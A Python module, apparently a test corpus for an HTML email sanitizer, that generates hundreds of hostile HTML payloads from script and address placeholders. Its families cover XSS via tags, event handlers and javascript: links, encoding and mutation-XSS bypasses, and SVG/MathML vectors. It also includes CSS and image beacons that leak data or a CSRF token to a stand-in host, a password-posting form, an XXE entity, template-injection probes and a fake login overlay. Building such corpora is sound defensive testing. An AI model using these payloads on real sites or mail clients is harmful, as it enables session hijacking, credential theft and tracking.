"""What hostile mail tries, by families: scripts that want to run, and addresses that want to be asked.

In each, `@RUN@` stands for a script and `@URL@` for an address whose being asked would tell the sender something.
"""

from __future__ import annotations

from html import escape

SCRIPTS = """
<script>@RUN@</script>
<SCRIPT SRC=@URL@/s.js></SCRIPT>
<scr<script>ipt>@RUN@</scr</script>ipt>
<script/x>@RUN@</script/>
<script\x0c>@RUN@</script\x0c>
<script type=module>@RUN@</script>
<script type=text/vbscript>MsgBox 1</script>
<<script>@RUN@//<</script>
<script\x00>@RUN@</script>
<sc\x00ript>@RUN@</sc\x00ript>
</p></td></div></body></html><script>@RUN@</script>
<iframe srcdoc="<script>@RUN@</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=&quot;@RUN@&quot;&gt;"></iframe>
<iframe src="javascript:@RUN@"></iframe>
<iframe src="data:text/html,<script>@RUN@</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object data="javascript:@RUN@"></object>
<embed src="javascript:@RUN@">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@RUN@'/>">
<frameset><frame src="javascript:@RUN@"></frameset>
<base href="javascript:@RUN@//"><a href="#">x</a>
<meta http-equiv=refresh content="0;url=javascript:@RUN@">
<meta http-equiv=refresh content="0;url=data:text/html,<script>@RUN@</script>">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>@RUN@</script>
<link rel=import href="data:text/html,<script>@RUN@</script>">
<link rel=stylesheet href="javascript:@RUN@">
<xml id=x><x>&lt;script&gt;@RUN@&lt;/script&gt;</x></xml><div datasrc=#x dataformatas=html></div>
<?xml version="1.0"?><?xml-stylesheet href="javascript:@RUN@"?><x/>
<?php echo '<script>@RUN@</script>' ?>
<%= "<script>@RUN@</script>" %>
<isindex type=image src=x onerror="@RUN@">
<isindex action="javascript:@RUN@" type=submit value=x>
<applet code="javascript:@RUN@"></applet>
<bgsound src="javascript:@RUN@">
<layer src="javascript:@RUN@"></layer>
<comment><img src="</comment><img src=x onerror=@RUN@//">
<listing>&lt;img src=x onerror="@RUN@"&gt;</listing>
<portal src="javascript:@RUN@"></portal>
<fencedframe src="javascript:@RUN@"></fencedframe>
<template shadowrootmode=open><script>@RUN@</script></template>
<div><template shadowrootmode=open><img src=x onerror="@RUN@"></template></div>
"""

HANDLERS = [
    f"<{tag} {event}=\"@RUN@\"{more}>{'x</' + tag + '>' if closed else ''}"
    for tag, event, more, closed in [
        ("img", "onerror", " src=x", False), ("img", "onload", " src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", False),
        ("img", "oNeRrOr", " src=x", False), ("image", "onerror", " src=x", False), ("body", "onload", "", True),
        ("body", "onpageshow", "", True), ("body", "onresize", "", True), ("body", "onhashchange", "", True),
        ("body", "onfocus", "", True), ("body", "onscroll", "", True), ("input", "onfocus", " autofocus", False),
        ("select", "onfocus", " autofocus", True), ("textarea", "onfocus", " autofocus", True), ("button", "onfocus", " autofocus", True),
        ("a", "onfocus", " href=# autofocus", True), ("div", "onfocus", " tabindex=0 autofocus", True),
        ("div", "onfocusin", " contenteditable autofocus", True), ("keygen", "onfocus", " autofocus", False),
        ("video", "onerror", " src=x", True), ("video", "onloadstart", " src=x", True), ("audio", "onerror", " src=x", True),
        ("video", "oncanplay", "><source onerror=\"@RUN@\"", True), ("details", "ontoggle", " open", True),
        ("marquee", "onstart", "", True), ("marquee", "onfinish", " loop=1 width=0", True), ("object", "onerror", " data=x", True),
        ("object", "onload", " data=about:blank", True), ("iframe", "onload", "", True), ("script", "onerror", " src=x", True),
        ("script", "onload", " src=data:,x", True), ("link", "onerror", " rel=stylesheet href=x", False),
        ("link", "onload", " rel=stylesheet href=data:text/css,x", False), ("style", "onload", "", True),
        ("style", "onerror", ">@import 'x'<", True), ("track", "onerror", " src=x", False), ("embed", "onload", " src=about:blank", False),
        ("form", "onsubmit", "><input type=submit autofocus", True), ("form", "onformdata", "", True),
        ("svg", "onload", "", True), ("svg", "onfocusin", " tabindex=0 autofocus", True), ("x", "onclick", " tabindex=0", True),
        ("x", "onanimationstart", " style=\"animation:x\"", True), ("x", "onanimationend", " style=\"animation:x 1ms\"", True),
        ("x", "ontransitionend", " style=\"transition:outline 1s\" id=x", True), ("x", "onwebkitanimationstart", " style=animation:x", True),
        ("p", "onmouseover", " style=\"position:fixed;inset:0\"", True), ("p", "onpointerenter", " style=\"position:fixed;inset:0\"", True),
        ("p", "onpointerrawupdate", "", True), ("p", "onbeforecopy", " contenteditable", True), ("p", "onbeforematch", " hidden=until-found id=x", True),
        ("p", "oncontentvisibilityautostatechange", " style=\"content-visibility:auto\"", True), ("p", "onscrollsnapchange", "", True),
        ("div", "onbeforetoggle", " popover id=x", True), ("button", "oncommand", " commandfor=x", True), ("p", "onsecuritypolicyviolation", "", True),
        ("dialog", "oncancel", " open", True), ("dialog", "onclose", " open", True), ("picture", "onerror", "><img src=x onerror=\"@RUN@\"", True),
    ]
]  # fmt: skip
SPELLINGS = (
    """
<img/src=x/onerror="@RUN@">
<img src=x onerror=@RUN@>
<img src=x onerror='@RUN@'
<img src=x onerror=`@RUN@`>
<img src=x\x0conerror="@RUN@">
<img src=x\tonerror\n=\n"@RUN@">
<img src="x"onerror="@RUN@">
<img """
    "\x00"
    """src=x onerror="@RUN@">
<img src=x one\x00rror="@RUN@">
<img \x0b src=x onerror="@RUN@">
<img src=x onerror="&#97;&#108;ert(1);@RUN@">
<img src=x:x onerror="&NewLine;@RUN@">
<img src=x title="<a" onerror="@RUN@">
<img src=x alt='"' onerror="@RUN@" title='">'>
<img src=x a='b"c' onerror="@RUN@" d='"e'>
<img title="a>b" src=x onerror="@RUN@">
<img src=x =" onerror="@RUN@">
<img/x="/onerror=@RUN@//" src=x onerror="@RUN@">
<a"><img src=x onerror="@RUN@">
<a'b='><img src=x onerror="@RUN@">'>
</ <img src=x onerror="@RUN@">
<!img src=x onerror="@RUN@"><img src=x onerror="@RUN@">
<IMG \"\"\"><img src=x onerror="@RUN@">"\\>
<x/><img src=x onerror="@RUN@"//>
<im\u212a><img src=x onerror="@RUN@">
\uff1cscript\uff1e@RUN@\uff1c/script\uff1e
\u2039img src=x onerror=@RUN@\u203a
&lt;script&gt;@RUN@&lt;/script&gt;
&#60;img src=x onerror="@RUN@"&#62;
&amp;lt;img src=x onerror="@RUN@"&amp;gt;
\\u003cimg src=x onerror="@RUN@"\\u003e
%3Cimg%20src=x%20onerror=@RUN@%3E
+ADw-script+AD4-@RUN@+ADw-/script+AD4-
+ADw-img src=x onerror=+ACI-@RUN@+ACIAPg-
\x1b$B<script>@RUN@</script>\x1b(B
\xbcscript\xbe@RUN@\xbc/script\xbe
<!--[if gte IE 4]><script>@RUN@</script><![endif]-->
<!--[if mso]><script>@RUN@</script><![endif]-->
<![if !mso]><script>@RUN@</script><![endif]>
"""
)

LINKS = [
    f'<a href="{address}" style="position:fixed;inset:0;display:block">click</a>'
    for address in (
        "javascript:@RUN@", "JaVaScRiPt:@RUN@", " javascript:@RUN@", "\x01javascript:@RUN@", "java\tscript:@RUN@", "java\nscript:@RUN@",
        "java&Tab;script:@RUN@", "java&NewLine;script&colon;@RUN@", "&#106;&#97;vascript:@RUN@", "&#x6A;avascript&#58;@RUN@",
        "&#0000106avascript:@RUN@", "javascript&#0000058@RUN@", "javascript\x00:@RUN@", "\u3000javascript:@RUN@", "javascript:/**/@RUN@",
        "javascript://%0a@RUN@", "javascript://https://bank.example/%0A@RUN@", "view-source:javascript:@RUN@", "feed:javascript:@RUN@",
        "vbscript:MsgBox(1)", "livescript:@RUN@", "mocha:@RUN@", "data:text/html,<script>@RUN@</script>", "data:,x", "data:image/svg+xml,<svg onload='@RUN@'>",
        "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:application/xhtml+xml,<x/>", "blob:https://x/y", "filesystem:https://x/y",
        "file:///etc/passwd", "about:srcdoc", "ms-word:ofe|u|@URL@/x.doc", "search-ms:query=x&crumb=location:\\\\evil", "intent://x#Intent;scheme=http;end",
        "//127.0.0.1/x", "\\\\127.0.0.1\\x", "/logout", "?state=resolved", "#x", "", "cid:x",
    )
] + """
<map name=m><area shape=default href="javascript:@RUN@"></map><img usemap=#m src=x>
<form action="javascript:@RUN@"><input type=submit autofocus></form>
<form id=f></form><button form=f formaction="javascript:@RUN@">x</button>
<form action="@URL@/steal" method=post><input name=password autofocus><input type=image src="@URL@/i.png"></form>
<form action="@URL@/go"><input type=submit id=x></form>
<a href="javascript:@RUN@" target=_self ping="@URL@/ping">x</a>
<a href="https://x.example/" ping="@URL@/ping">x</a>
<a xlink:href="javascript:@RUN@">x</a>
<q cite="javascript:@RUN@">x</q><blockquote cite="@URL@/c">x</blockquote><ins cite="@URL@/c">x</ins>
<div itemscope itemtype="@URL@"><link itemprop=url href="@URL@/x"></div>
<button popovertarget=x>x</button><div popover id=x>x</div>
<body link=javascript:@RUN@ background="javascript:@RUN@">
<table background="javascript:@RUN@"><td background="javascript:@RUN@">x</table>
<img src="javascript:@RUN@"><img dynsrc="javascript:@RUN@"><img lowsrc="javascript:@RUN@">
""".strip().splitlines()  # fmt: skip

FOREIGN = """
<svg><script>@RUN@</script></svg>
<svg><script href="data:,@RUN@"/></svg>
<svg><script xlink:href="@URL@/s.js"></script></svg>
<svg><style><img src=x onerror="@RUN@"></style></svg>
<svg></p><style><a id="</style><img src=x onerror=@RUN@>">
<svg><p><style><a id="</style><img src=x onerror=@RUN@>">
<svg><a xlink:href="javascript:@RUN@"><rect width=999 height=999 /></a></svg>
<svg><a><animate attributeName=href values="javascript:@RUN@"/><text y=20>x</text></a></svg>
<svg><animate onbegin="@RUN@" attributeName=x dur=1s>
<svg><set attributeName=onload to="@RUN@"/></svg>
<svg><set attributeName=href to="javascript:@RUN@"/><a id=x>x</a></svg>
<svg><animatetransform onbegin="@RUN@">
<svg><animatemotion onrepeat="@RUN@" dur=1ms repeatCount=2>
<svg><image href="@URL@/i.png" onerror="@RUN@"></svg>
<svg><image><animate attributeName=href from="@URL@/f.png" to="@URL@/t.png" by="@URL@/b.png" dur=1s /></image></svg>
<svg><image><set attributeName=xlink:href to="@URL@/smil.png"/></image></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='@RUN@'/></svg>#x"/></svg>
<svg><use href="@URL@/u.svg#x"/></svg>
<svg><feImage href="@URL@/fe.png"/></svg>
<svg><filter id=f><feImage xlink:href="@URL@/fe2.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
<svg><rect fill="url(@URL@/fill.svg#a)" width=9 height=9 /></svg>
<svg><rect filter="url(@URL@/filter.svg#a)" width=9 height=9 /></svg>
<svg><rect mask="url(@URL@/mask.svg#a)" clip-path="url(@URL@/clip.svg#a)" width=9 height=9 /></svg>
<svg><rect marker-start="url(@URL@/marker.svg#a)" cursor="url(@URL@/c.cur)" width=9 height=9 /></svg>
<svg><pattern id=p href="@URL@/p.svg#a"/><linearGradient href="@URL@/g.svg#a"/></svg>
<svg><tref xlink:href="@URL@/tref"/><cursor xlink:href="@URL@/cur.png"/></svg>
<svg><color-profile xlink:href="@URL@/cp"/><font-face-uri xlink:href="@URL@/ff"/></svg>
<svg><foreignObject><img src=x onerror="@RUN@"></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>@RUN@</script>"></iframe></foreignObject></svg>
<svg><desc><img src=x onerror="@RUN@"></desc><title><img src=x onerror="@RUN@"></title></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>@RUN@</handler></svg>
<svg><discard onbegin="@RUN@"/></svg>
<svg><view id=x viewTarget="javascript:@RUN@"/></svg>
<?xml-stylesheet type="text/css" href="@URL@/x.css"?><svg/>
<!DOCTYPE x [<!ENTITY x SYSTEM "@URL@/xxe">]><x>&x;</x>
<!DOCTYPE html SYSTEM "@URL@/dtd"><p>x
<math><mi xlink:href="javascript:@RUN@">x</mi></math>
<math href="javascript:@RUN@">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:@RUN@">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="@RUN@"></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>@RUN@</script></annotation-xml></math>
<math><semantics><annotation-xml encoding="image/svg+xml"><svg onload="@RUN@"/></annotation-xml></semantics></math>
<math><ms><img src=x onerror="@RUN@"></ms><mtext><img src=x onerror="@RUN@"></mtext></math>
<math altimg="@URL@/m.png"><mglyph src="@URL@/g.png" /></math>
"""

MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=@RUN@>">
<noscript><style></noscript><img src=x onerror="@RUN@">
<noscript><!-- </noscript><img src=x onerror="@RUN@"> -->
<noembed><img title="</noembed><img src=x onerror=@RUN@>"></noembed>
<noframes><p title="</noframes><img src=x onerror=@RUN@>"></noframes>
<xmp><p title="</xmp><img src=x onerror=@RUN@>">
<title><p title="</title><img src=x onerror=@RUN@>">
<textarea><p title="</textarea><img src=x onerror=@RUN@>">
<style><p title="</style><img src=x onerror=@RUN@>">
<iframe><p title="</iframe><img src=x onerror=@RUN@>">
<plaintext><p title="</plaintext><img src=x onerror=@RUN@>">
<template><p title="</template><img src=x onerror=@RUN@>">
<template><style></template><img src=x onerror="@RUN@"></style></template>
<select><template><img src=x onerror="@RUN@"></template></select>
<select><style><!--</style></select><img src=x onerror="@RUN@">-->
<select><option><style></option></select><img src=x onerror="@RUN@"></style>
<!--><img src=x onerror="@RUN@">-->
<!---><img src=x onerror="@RUN@">-->
<!-- --!><img src=x onerror="@RUN@">-->
<!--<!--> --><img src=x onerror="@RUN@">-->
<!-- x ---!><img src=x onerror="@RUN@">
<![CDATA[<img src=x onerror="@RUN@">]]>
<![CDATA[><img src=x onerror="@RUN@">]]>
<svg><![CDATA[</svg><img src=x onerror="@RUN@">]]></svg>
<math><![CDATA[<img src=x onerror="@RUN@">]]></math>
<math><mtext><table><mglyph><style><math><img src=x onerror="@RUN@"></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@RUN@&gt;">
<math><mtext><mglyph><style><img src=x onerror="@RUN@"></style></mglyph></mtext></math>
<math><mtext><malignmark><style><img title="</style><img src onerror='@RUN@'>"></style></malignmark></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror="@RUN@">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror=@RUN@>">
<svg><form><foreignObject></form><form><style><a title="</style><img src onerror=@RUN@>">
<math><mi><table><mi><svg><style><img title="</style><img src onerror=@RUN@>"></style></svg></table></math>
<svg><foreignObject><math><mi><svg><style><img title="</style><img src onerror=@RUN@>">
<svg></br><style><img title="</style><img src=x onerror=@RUN@>">
<math></p><style><img title="</style><img src=x onerror=@RUN@>">
<svg><title><style><img title="</style><img src=x onerror=@RUN@>">
<svg><desc><style><!--</style><img title="--><img src=x onerror=@RUN@>">
<svg><textarea><style><img title="</style><img src=x onerror=@RUN@>">
<math><annotation-xml><style><img title="</style><img src=x onerror=@RUN@>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=@RUN@>"></annotation-xml></math>
<svg><font color=x><style><img title="</style><img src=x onerror=@RUN@>">
<math><font size=1><style><img title="</style><img src=x onerror=@RUN@>">
<p><svg><style><p></p></style><img src=x onerror="@RUN@"></svg>
<table><svg><style><td></style><img src=x onerror="@RUN@"></table>
<table><caption><svg><title><table><style></caption><img src=x onerror="@RUN@">
<a><table><a href="x"><style></a><img src=x onerror="@RUN@"></table>
<b><i><u><p></b><style></i><img src=x onerror="@RUN@"></style>
<div><a><b><div></a><noscript><p title="</noscript><img src=x onerror=@RUN@>"></div>
<listing>\n\n&lt;img src=x onerror="@RUN@"&gt;</listing>
<pre>\n\n<textarea>\n</pre><img src=x onerror="@RUN@"></textarea>
<p title="`"><img alt="``onerror=@RUN@ " src=x>
<p style="font-family:'\\22\\3bx:expression(@RUN@)/*'">x
<p style="font-family:'a&#39;;x:e'">x</p><p title='&quot;><img src=x onerror=@RUN@>'>
<p title="&lt;img src=x onerror=@RUN@&gt;">x
<p title='"><img src=x onerror="@RUN@">'>
<img alt="&lt;x title=&quot;/&gt;&lt;img src=x onerror=@RUN@&gt;&quot;&gt;">
<x:script xmlns:x="http://www.w3.org/1999/xhtml">@RUN@</x:script>
<html xmlns:x="x"><x:img src=x onerror="@RUN@"/></html>
<frameset onload="@RUN@"><frame></frameset>
<body><frameset><noframes><img title="</noframes><img src=x onerror=@RUN@>">
<selectedcontent><img src=x onerror="@RUN@"></selectedcontent>
<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror="@RUN@"></select>
<p id=x><p name=cookie><a id=x href=x><img name=body><form name=getElementById><input name=attributes>
<image href=x onerror="@RUN@"><title>x</title></image>
<nobr><nobr><style></nobr><img src=x onerror="@RUN@"></style>
<ruby><rtc><style></ruby><img src=x onerror="@RUN@"></style>
<colgroup><template><td><style></colgroup><img src=x onerror="@RUN@">
<button><p><style></button><img src=x onerror="@RUN@"></style>
<object><embed><noembed></object><img src=x onerror="@RUN@"></noembed>
"""

LOADS = [
    f"<{markup}"
    for markup in """
img src=@URL@/i.png>
img src="@URL@/i.png" width=1 height=1 alt="">
IMG SRC='@URL@/i.png'>
image src=@URL@/image.png>
img src=//TRAP/i.png>
img src=\\\\TRAP\\i.png>
img src="http:TRAP/i.png">
img src=" @URL@/space.png">
img src="&#104;ttp://TRAP/entity.png">
img src="ht\ttp://TRAP/tab.png">
img src=x srcset="@URL@/1.png 1x, @URL@/2.png 2x">
img srcset="@URL@/s.png 100w" sizes=100px>
img src="cid:x" srcset=@URL@/s.png lowsrc=@URL@/l.png dynsrc=@URL@/d.png longdesc=@URL@/ld>
img data-remote-src="@URL@/r.png" src="@URL@/r2.png">
img loading=eager fetchpriority=high src=@URL@/e.png crossorigin attributionsrc=@URL@/attr>
picture><source srcset=@URL@/p.png><source media=all srcset=@URL@/p2.png><img src=x></picture>
input type=image src=@URL@/in.png>
button><img src=@URL@/b.png></button>
video src=@URL@/v.mp4 poster=@URL@/p.png autoplay preload=auto></video>
video><source src=@URL@/v.webm><track default src=@URL@/t.vtt></video>
audio src=@URL@/a.mp3 autoplay preload=auto></audio>
audio><source src=@URL@/a.ogg></audio>
bgsound src=@URL@/bg.mid>
object data=@URL@/o.swf><param name=movie value=@URL@/m.swf></object>
object classid="clsid:x" codebase=@URL@/c.cab archive=@URL@/a.jar></object>
embed src=@URL@/e.pdf>
applet code=x.class codebase=@URL@/ archive=@URL@/a.jar></applet>
iframe src=@URL@/f.html></iframe>
iframe srcdoc="<img src=@URL@/sd.png>"></iframe>
frame src=@URL@/fr.html>
frameset><frame src=@URL@/fr2.html></frameset>
portal src=@URL@/portal></portal>
link rel=stylesheet href=@URL@/l.css>
link rel="alternate stylesheet" href=@URL@/alt.css>
link rel=preload as=image href=@URL@/pl.png>
link rel=modulepreload href=@URL@/mp.js>
link rel=prefetch href=@URL@/pf>
link rel=prerender href=@URL@/pr>
link rel=dns-prefetch href=@URL@/>
link rel=preconnect href=@URL@/>
link rel=icon href=@URL@/favicon.ico>
link rel=manifest href=@URL@/m.json>
link rel=import href=@URL@/im.html>
link rel=preload imagesrcset=@URL@/ims.png as=image>
meta http-equiv=refresh content="0;url=@URL@/refresh">
meta http-equiv=Link content="<@URL@/ml.css>; rel=stylesheet">
meta http-equiv=x-dns-prefetch-control content=on><a href=@URL@/>x</a>
meta http-equiv=Content-Security-Policy-Report-Only content="default-src 'none'; report-uri @URL@/csp">
meta http-equiv=Set-Cookie content="holdline=x">
meta property=og:image content=@URL@/og.png>
base href=@URL@/><img src=b.png>
base target=_top href=@URL@/>
html manifest=@URL@/app.manifest>
body background=@URL@/bg.png>
table background=@URL@/tb.png><tr background=@URL@/tr.png><td background=@URL@/td.png>x</table>
th background=@URL@/th.png>
td style="background:url(@URL@/tds.png)">x
a href=@URL@/ping ping=@URL@/ping attributionsrc=@URL@/a>x</a>
script type=speculationrules>{"prefetch":[{"source":"list","urls":["@URL@/spec"]}]}</script>
script type=importmap>{"imports":{"x":"@URL@/x.js"}}</script>
script type=application/ld+json>{"@context":"@URL@/ld"}</script>
div hx-get=@URL@/hx hx-trigger=load data-hx-get=@URL@/hx2>x</div>
div data-src=@URL@/ds.png data-background=@URL@/db.png class=lazyload>x</div>
v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type=frame src=@URL@/vml.png /></v:rect>
v:image src=@URL@/vmli.png />
amp-img src=@URL@/amp.png width=1 height=1></amp-img>
model src=@URL@/m.usdz></model>
""".strip().splitlines()
]

DECLARATIONS = """
background:url(@URL@/a.png)
background-image:url("@URL@/b.png")
background-image:url('@URL@/c.png')
background : URL( @URL@/d.png )
background:u\\72l(@URL@/e.png)
background:\\75 rl(@URL@/f.png)
background:\\000075\\000072\\00006c(@URL@/g.png)
background:/**/url/**/(@URL@/h.png)
background:url(/**/@URL@/i.png)
background:red url(@URL@/j.png) no-repeat
background-color:url(@URL@/k.png)
background:image-set("@URL@/l.png" 1x)
background:-webkit-image-set(url(@URL@/m.png) 1x)
background:image-set(url(@URL@/n.png) type("image/png"))
background:cross-fade(url(@URL@/o.png), red)
background:-webkit-cross-fade(url(@URL@/p.png), url(@URL@/p2.png), 50%)
background:image(@URL@/q.png)
background:element(#x) url(@URL@/r.png)
background:var(--x, url(@URL@/s.png))
--x:url(@URL@/t.png);background:var(--x)
background:src("@URL@/u.png")
background:paint(x, url(@URL@/v.png))
background:attr(title type(<url>))
list-style:url(@URL@/w.png)
list-style-image:url(@URL@/x.png);display:list-item
list-style-type:url(@URL@/y.png)
cursor:url(@URL@/z.cur),auto
border-image:url(@URL@/ba.png) 1
border-image-source:url(@URL@/bb.png)
-webkit-border-image:url(@URL@/bc.png) 1
-webkit-box-reflect:below 0 url(@URL@/bd.png)
mask:url(@URL@/be.svg#m)
mask-image:url(@URL@/bf.png)
-webkit-mask-image:url(@URL@/bg.png)
-webkit-mask-box-image:url(@URL@/bh.png)
mask-border-source:url(@URL@/bi.png)
filter:url(@URL@/bj.svg#f)
backdrop-filter:url(@URL@/bk.svg#f)
clip-path:url(@URL@/bl.svg#c)
shape-outside:url(@URL@/bm.png);float:left
offset-path:url(@URL@/bn.svg#o)
content:url(@URL@/bo.png)
font-family:x;src:url(@URL@/bp.woff)
fill:url(@URL@/bq.svg#x)
marker:url(@URL@/br.svg#m)
behavior:url(@URL@/bs.htc)
-moz-binding:url(@URL@/bt.xml#x)
width:expression(@RUN@)
width:ex/**/pression(@RUN@)
width:e\\78pression(@RUN@)
background:url(javascript:@RUN@)
-o-link:'javascript:@RUN@';-o-link-source:current
x:expression(@RUN@);color:red
color:red;}*{background:url(@URL@/bu.png)
color:red&#59;background&#58;url(@URL@/bv.png)
font-family:'x';background:url(@URL@/bw.png)
font-family:"</style><img src=x onerror=@RUN@>"
position:fixed;inset:0;z-index:2147483647;background:white
position:absolute;top:-9999px;opacity:0
display:block;width:100vw;height:100vh;transform:scale(99)
animation:x 1s url(@URL@/bx.png)
""".strip().splitlines()

SHEETS = """
@import "@URL@/i1.css";
@import url(@URL@/i2.css);
@import url("@URL@/i3.css") layer(x) supports(display:block) screen;
@\\69mport "@URL@/i4.css";
@charset "utf-7";+AEA-import "@URL@/i5.css";
@namespace x url(@URL@/ns);
@font-face{font-family:x;src:url(@URL@/f.woff2)}*{font-family:x}
@font-face{font-family:y;src:url(@URL@/u.woff2);unicode-range:U+0041}*{font-family:y}
@font-feature-values x{} *{background:url(@URL@/ff.png)}
@media all{*{background:url(@URL@/m.png)}}
@media (prefers-color-scheme:dark){*{background:url(@URL@/dark.png)}}
@supports (display:block){body{background:url(@URL@/s.png)}}
@container (min-width:1px){*{background:url(@URL@/c.png)}}
@page{background:url(@URL@/page.png)} @page :first{content:url(@URL@/p1.png)}
@counter-style x{system:cyclic;symbols:url(@URL@/cs.png)} li{list-style:x}
@keyframes x{from{background:url(@URL@/k1.png)}to{background:url(@URL@/k2.png)}} *{animation:x 1s infinite}
@property --x{syntax:"<image>";inherits:false;initial-value:url(@URL@/prop.png)}
@layer x{*{background:url(@URL@/layer.png)}}
@scope (body){*{background:url(@URL@/scope.png)}}
@document url(@URL@/doc){*{color:red}}
body::before{content:url(@URL@/before.png)} a:visited{background:url(@URL@/visited.png)}
input[value^=a]{background:url(@URL@/a.png)} input[value^=b]{background:url(@URL@/b.png)}
[name=csrf_token][value^="0"]~*{background:url(@URL@/0.png)} a[href*="cases"]{background:url(@URL@/cases.png)}
textarea:hover{background:url(@URL@/hover.png)} :root:has(form){background:url(@URL@/has.png)}
::selection{background:url(@URL@/sel.png)} ::marker{content:url(@URL@/mark.png)} ::backdrop{background:url(@URL@/bd.png)}
::-webkit-scrollbar{background:url(@URL@/scroll.png)} ::first-line{background:url(@URL@/fl.png)}
#reply,.entry,.compose,main,header{display:none!important} body{position:fixed;inset:0}
*{-moz-binding:url(@URL@/xbl.xml#x);behavior:url(@URL@/b.htc)} body{width:expression(@RUN@)}
</style><script>@RUN@</script><style>
<!-- </style><img src=x onerror="@RUN@"> -->
/*</style><img src=x onerror="@RUN@">*/
""".strip().splitlines()

OVERLAYS = """
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Your session has ended. <a href="@URL@/login">Log in</a></div>
<dialog open style="position:fixed;inset:0">x</dialog>
<div id=reply class="compose entry toast banner broken"><textarea name=text>x</textarea></div>
<div class="btn main" id=main role=alert aria-live=assertive>x</div>
<p id=news data-news=@URL@/news>x</p><p class=toast><button class=undo>x</button></p>
<label for=text>x</label><output for=text>x</output><input name=csrf_token value=x>
<main><header><nav><form method=post action=/logout><button autofocus accesskey=e>x</button></form></nav></header></main>
<a href="https://x.example/" accesskey=r style="all:unset;position:fixed;inset:0">x</a>
<marquee behavior=alternate scrollamount=99999><blink>x</blink></marquee>
<p style="font-size:99999px;line-height:99999px;margin-left:-9999px;text-indent:-9999px;letter-spacing:9999px">x
<img src="cid:x" width=99999 height=99999 style="width:99999px;height:99999px;border:99999px solid">
<table width=99999 cellpadding=99999 border=99999><td colspan=9999 rowspan=9999>x</table>
{{7*7}}{% for x in range(9) %}{{x}}{% endfor %}${7*7}#{7*7}<%= 7*7 %>%s%n{0.__class__}
{{ config }}{{ self.__init__.__globals__ }}{{ ''.__class__.__mro__ }}
**[x](javascript:@RUN@)** ![x](@URL@/md.png) [x]: @URL@/ref <@URL@/auto>
"""


def _lines(block: str) -> list[str]:
    return [line for line in block.strip("\n").split("\n") if line]


FAMILIES: dict[str, list[str]] = {
    "scripts": _lines(SCRIPTS),
    "handlers": HANDLERS,
    "spellings": _lines(SPELLINGS),
    "links": LINKS,
    "foreign": _lines(FOREIGN),
    "mutations": _lines(MUTATIONS),
    "loads": LOADS,
    "styles": [f'<p style="{escape(line) if chr(34) in line else line}">x</p>' for line in DECLARATIONS],
    "sheets": [f"<style>{line}</style>x" for line in SHEETS],
    "overlays": _lines(OVERLAYS),
}


def payloads(*, run: str, url: str) -> list[tuple[str, str]]:
    """(name, HTML) of each, with this script and this address in it; an address like http://127.0.0.1:8099."""
    host = url.partition("://")[2]
    return [
        (f"{family} {n}", text.replace("@RUN@", run).replace("@URL@", url).replace("TRAP", host))
        for family, texts in FAMILIES.items()
        for n, text in enumerate(texts, 1)
    ]
